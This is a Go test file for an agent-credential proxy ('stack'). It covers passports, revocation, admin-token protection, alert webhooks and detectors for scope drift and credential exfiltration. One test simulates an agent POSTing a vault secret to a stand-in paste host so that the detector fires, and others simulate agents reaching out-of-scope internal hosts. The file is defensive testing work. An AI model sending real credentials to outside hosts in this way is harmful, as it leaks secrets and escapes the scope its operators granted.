package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// startSidecar runs `stack proxy` in-process on ephemeral ports and
// returns where it listens; it is stopped (and must exit cleanly) at the
// end of the test.
func startSidecar(t *testing.T, home string, args ...string) runInfo {
	t.Helper()
	var info runInfo
	startServer(t, home, runFile, append([]string{"proxy", "--listen", "127.0.0.1:0", "--admin-listen", "127.0.0.1:0"}, args...),
		func(b []byte) bool { return json.Unmarshal(b, &info) == nil && info.Admin != "" })
	return info
}

// startServer runs a stack server command in-process until its run file
// in home satisfies ready; at the end of the test it is stopped, must
// exit 0 and must have removed its run file.
func startServer(t *testing.T, home, file string, args []string, ready func([]byte) bool) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int, 1)
	var errb syncBuffer
	go func() {
		done <- run(ctx, append([]string{"--home", home}, args...), strings.NewReader(""), &bytes.Buffer{}, &errb)
	}()
	t.Cleanup(func() {
		cancel()
		select {
		case code := <-done:
			if code != 0 {
				t.Errorf("stack %s exited %d: %s", args[0], code, errb.String())
			}
		case <-time.After(30 * time.Second):
			t.Errorf("stack %s did not stop", args[0])
		}
		if _, err := os.Stat(filepath.Join(home, file)); !os.IsNotExist(err) {
			t.Errorf("run file left behind: %v", err)
		}
	})
	deadline := time.Now().Add(20 * time.Second)
	for {
		if b, err := os.ReadFile(filepath.Join(home, file)); err == nil && ready(b) {
			return
		}
		select {
		case code := <-done:
			t.Fatalf("stack %s exited %d before listening: %s", args[0], code, errb.String())
		default:
		}
		if time.Now().After(deadline) {
			t.Fatalf("stack %s not listening after 20s: %s", args[0], errb.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// While the sidecar runs, the CLI goes through its admin API: changes
// apply at once and reads never hang on the file lock.
func TestCLIAgainstRunningSidecar(t *testing.T) {
	home := initHome(t)
	info := startSidecar(t, home)

	if code, out, errs := runStack(t, home, "sk_test_live_ABC123", "vault", "put", "stripe", "--host", "api.stripe.com", "--render", "bearer"); code != 0 {
		t.Fatalf("vault put through the sidecar: exit %d\n%s\n%s", code, out, errs)
	}
	code, out, errs := runStack(t, home, "", "vault", "list")
	if code != 0 || !strings.Contains(out, "stripe") || strings.Contains(out, "sk_test_live_ABC123") {
		t.Fatalf("vault list: exit %d\n%s\n%s", code, out, errs)
	}
	if code, out, errs := runStack(t, home, "", "vault", "check"); code != 0 {
		t.Fatalf("vault check: exit %d\n%s\n%s", code, out, errs)
	}
	if code, out, errs := runStack(t, home, "", "audit", "verify"); code != 0 {
		t.Fatalf("audit verify against the live log: exit %d\n%s\n%s", code, out, errs)
	}

	// Revocation goes through the sidecar and is visible to verify at once.
	code, issued, errs := runStack(t, home, "", "passport", "issue", "--agent", "bot", "--role", "billing-reporter")
	if code != 0 {
		t.Fatalf("issue: %d %s", code, errs)
	}
	token := strings.TrimSpace(issued)
	if code, _, errs := runStack(t, home, "", "passport", "verify", token); code != 0 {
		t.Fatalf("verify before revocation: %d %s", code, errs)
	}
	if code, out, errs := runStack(t, home, "", "passport", "revoke", "--agent", "bot", "--reason", "test"); code != 0 || !strings.Contains(out, "running sidecar") {
		t.Fatalf("revoke through the sidecar: %d\n%s\n%s", code, out, errs)
	}
	if code, out, errs := runStack(t, home, "", "passport", "verify", token); code != 1 || !strings.Contains(out+errs, "passport_revoked") {
		t.Errorf("verify after revocation: exit %d\n%s\n%s", code, out, errs)
	}
	if code, out, errs := runStack(t, home, "", "passport", "rotate-key"); code != 0 || !strings.Contains(out, "reloaded") {
		t.Errorf("rotate-key with a running sidecar: exit %d\n%s\n%s", code, out, errs)
	}

	// Admin endpoints that change state need the token; health does not.
	resp, err := http.Post("http://"+info.Admin+"/v1/passport/revoke", "application/json", strings.NewReader(`{"agent":"x"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("revoke without the admin token: %d, want 401", resp.StatusCode)
	}
	for _, p := range []string{"/healthz", "/readyz", "/metrics"} {
		resp, err := http.Get("http://" + info.Admin + p)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Errorf("%s: %d", p, resp.StatusCode)
		}
	}
	tok, err := os.ReadFile(filepath.Join(home, adminTokenFile))
	if err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(filepath.Join(home, adminTokenFile)); fi.Mode().Perm() != 0o600 {
		t.Errorf("admin.token mode %v", fi.Mode().Perm())
	}
	req, _ := http.NewRequest("GET", "http://"+info.Admin+"/v1/status", nil)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(tok)))
	resp, err = http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("status with the token: %d", resp.StatusCode)
	}

	// Profiles are behind the token too.
	pprofURL := "http://" + info.Admin + "/debug/pprof/goroutine?debug=1"
	if resp, err = http.Get(pprofURL); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("pprof without the admin token: %d, want 401", resp.StatusCode)
	}
	req, _ = http.NewRequest("GET", pprofURL, nil)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(tok)))
	if resp, err = http.DefaultClient.Do(req); err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Contains(body, []byte("goroutine profile:")) {
		t.Errorf("pprof with the token: %d %.200s", resp.StatusCode, body)
	}
}

func TestProxyRefusesSecondInstance(t *testing.T) {
	home := initHome(t)
	startSidecar(t, home)
	code, _, errs := runStack(t, home, "", "proxy", "--listen", "127.0.0.1:0", "--admin-listen", "127.0.0.1:0")
	if code == 0 || !strings.Contains(errs, "another process") {
		t.Errorf("second proxy: exit %d, stderr %s", code, errs)
	}
}

func TestCAExport(t *testing.T) {
	home := initHome(t)
	code, out, errs := runStack(t, home, "", "ca", "export")
	if code != 0 || !strings.HasPrefix(out, "-----BEGIN CERTIFICATE-----") {
		t.Fatalf("ca export: exit %d\n%s\n%s", code, out, errs)
	}
	key, err := os.ReadFile(filepath.Join(home, caKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(key, []byte("PRIVATE KEY")) {
		t.Error("the CA private key is stored in the clear")
	}
}

// A detector switched off may still be named by rules and suppressions.
func TestProxyStartsWithRulesNamingAnOffDetector(t *testing.T) {
	home := initHome(t)
	cfg := `detect:
  scope_drift:
    mode: "off"
  credential_burst:
    mode: revoke
  rules:
    - {name: burst-and-drift, detectors: [credential_burst, scope_drift], within: 60s, action: revoke}
  suppress:
    - {detector: scope_drift, agent: crawler}
`
	if err := os.WriteFile(filepath.Join(home, "stack.yaml"), []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	info := startSidecar(t, home)
	resp, err := http.Get("http://" + info.Admin + "/readyz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("readyz %d", resp.StatusCode)
	}
}

// An alert reaches the webhook named by detect.webhook_url_env, with a
// Slack-compatible text field.
func TestWebhookAlert(t *testing.T) {
	got := make(chan map[string]any, 4)
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var m map[string]any
		json.NewDecoder(r.Body).Decode(&m)
		got <- m
	}))
	defer hook.Close()
	t.Setenv("STACK_TEST_ALERT_HOOK", hook.URL)
	home := initHome(t)
	if err := os.WriteFile(filepath.Join(home, "stack.yaml"), []byte("detect:\n  webhook_url_env: STACK_TEST_ALERT_HOOK\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	info := startSidecar(t, home)
	resp := drifter(t, home, info)("http://internal.example.net/admin")
	if resp.StatusCode != 403 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	select {
	case m := <-got:
		text, _ := m["text"].(string)
		if !strings.Contains(text, "scope_drift") || !strings.Contains(text, "drifter") {
			t.Errorf("webhook payload %v", m)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no webhook alert within 10s")
	}
}

// An agent that keeps trying the same out-of-scope host is one record
// while detect.alert_summary_window folds the storm (the summary comes
// when the window ends or the sidecar stops), and a record per attempt
// when the window is 0.
func TestAlertStormFolded(t *testing.T) {
	for _, tc := range []struct {
		window string
		want   int
	}{{"1m", 1}, {"0s", 5}} {
		t.Run(tc.window, func(t *testing.T) {
			home := initHome(t)
			if err := os.WriteFile(filepath.Join(home, "stack.yaml"), []byte("detect:\n  alert_summary_window: "+tc.window+"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			info := startSidecar(t, home)
			send := drifter(t, home, info)
			for range 5 {
				if resp := send("http://internal.example.net/admin"); resp.StatusCode != 403 {
					t.Fatalf("status %d", resp.StatusCode)
				}
			}
			code, out, errs := runStack(t, home, "", "audit", "tail", "--json", "-n", "50", "--action", "detector_fired")
			if code != 0 {
				t.Fatalf("audit tail: %d %s", code, errs)
			}
			if got := strings.Count(out, `"detector":"scope_drift"`); got != tc.want {
				t.Errorf("%d scope_drift records for 5 attempts, want %d:\n%s", got, tc.want, out)
			}
		})
	}
}

// drifter issues a passport for agent "drifter", allowed only GET on
// api.example.com, and returns a func that sends GET url through the
// sidecar with it, as plain HTTP with the passport in Proxy-Authorization.
func drifter(t *testing.T, home string, info runInfo) func(url string) *http.Response {
	t.Helper()
	code, tok, errs := runStack(t, home, "", "passport", "issue", "--agent", "drifter", "--grant", "host=api.example.com,methods=GET")
	if code != 0 {
		t.Fatalf("issue: %s", errs)
	}
	proxyURL, _ := url.Parse("http://" + info.Listen)
	tr := &http.Transport{Proxy: http.ProxyURL(proxyURL)}
	t.Cleanup(tr.CloseIdleConnections)
	return func(target string) *http.Response {
		t.Helper()
		req, _ := http.NewRequest("GET", target, nil)
		req.Header.Set("Proxy-Authorization", "Bearer "+strings.TrimSpace(tok))
		resp, err := tr.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
}

// A reload (SIGHUP or the admin API) applies a changed detector policy
// without a restart.
func TestReloadAppliesDetectorPolicy(t *testing.T) {
	home := initHome(t)
	info := startSidecar(t, home)
	drift := drifter(t, home, info)
	send := func() *http.Response { return drift("http://internal.example.net/") }
	if r := send(); r.Header.Get("X-Stack-Reason") != "scope_denied" {
		t.Fatalf("before reload: %s", r.Header.Get("X-Stack-Reason"))
	}
	if err := os.WriteFile(filepath.Join(home, "stack.yaml"), []byte("detect:\n  scope_drift:\n    mode: revoke\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	adminTok, _ := os.ReadFile(filepath.Join(home, adminTokenFile))
	req, _ := http.NewRequest("POST", "http://"+info.Admin+"/v1/reload", nil)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(adminTok)))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("reload: %d", resp.StatusCode)
	}
	if r := send(); r.Header.Get("X-Stack-Reason") != "detector_blocked" {
		t.Errorf("after reload to revoke mode: %s", r.Header.Get("X-Stack-Reason"))
	}
	if r := send(); r.Header.Get("X-Stack-Reason") != "passport_revoked" {
		t.Errorf("next request: %s", r.Header.Get("X-Stack-Reason"))
	}
}

// A secret put into the vault while the sidecar runs is recognised by the
// exfiltration detector at once: the index follows the vault.
func TestExfiltrationIndexFollowsVault(t *testing.T) {
	home := initHome(t)
	info := startSidecar(t, home)
	const secret = "sk_live_addedWhileRunning0123456789abcd"
	if code, out, errs := runStack(t, home, secret, "vault", "put", "fresh", "--host", "api.fresh.example", "--render", "bearer"); code != 0 {
		t.Fatalf("vault put: %d %s %s", code, out, errs)
	}
	code, tok, errs := runStack(t, home, "", "passport", "issue", "--agent", "leaker", "--grant", "host=paste.example,methods=POST")
	if code != 0 {
		t.Fatalf("issue: %s", errs)
	}
	proxyURL, _ := url.Parse("http://" + info.Listen)
	tr := &http.Transport{Proxy: http.ProxyURL(proxyURL)}
	defer tr.CloseIdleConnections()
	req, _ := http.NewRequest("POST", "http://paste.example/new", strings.NewReader(`{"note":"here it is: `+secret+`"}`))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Proxy-Authorization", "Bearer "+strings.TrimSpace(tok))
	resp, err := tr.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	code, out, errs := runStack(t, home, "", "audit", "tail", "--json", "-n", "50", "--action", "detector_fired")
	if code != 0 {
		t.Fatalf("audit tail: %d %s", code, errs)
	}
	if !strings.Contains(out, "credential_exfiltration") || !strings.Contains(out, "fresh") {
		t.Errorf("no exfiltration signal naming the new credential:\n%s", out)
	}
	if strings.Contains(out, secret) {
		t.Error("the audit log holds the secret")
	}
}
